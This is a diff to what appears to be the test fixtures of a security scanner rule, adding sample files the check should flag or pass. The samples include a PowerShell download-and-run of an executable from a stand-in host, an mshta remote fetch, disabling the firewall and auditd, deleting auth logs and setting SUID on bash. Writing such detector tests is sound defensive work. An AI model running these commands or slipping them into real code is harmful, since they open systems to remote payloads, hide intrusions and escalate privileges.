@@ -25,6 +25,10 @@ export const check: FileCheck = {
       },
       { 'quiet.py': "import os\n«os.system('ufw disable')»\n«os.system('systemctl stop auditd')»\n" },
       { 'tidy.js': "const { execSync } = require('child_process');\n«execSync('rm -rf /var/log/auth.log')»;\n" },
+      {
+        'fetch.js':
+          "const { exec } = require('child_process');\n«exec('powershell -c \"iwr https://c.example.net/a -OutFile a.exe; Start-Process a.exe\"')»;\n",
+      },
       { 'build/a.targets': '<Project>«<Exec Command="mshta https://c.example.net/a.hta"» /></Project>\n' },
       { 'rise.py': "import os\n«os.system('chmod u+s /bin/bash')»\n" },
     ],
@@ -59,6 +63,10 @@ export const check: FileCheck = {
         'register.py': `
           key = 'HKCU/Software/Google/Chrome/NativeMessagingHosts/' + host
           subprocess.run(['reg', 'add', key, '/ve', '/d', file, '/f'])`,
+      },
+      {
+        'model.js':
+          "const { execSync } = require('child_process');\nexecSync(`powershell -Command \"Invoke-WebRequest '${url}' -OutFile '${file}'\"`);\n",
       },
       { 'get.js': "execSync('curl -fsSL -o data.json https://api.example.com/data');\n" },
     ],
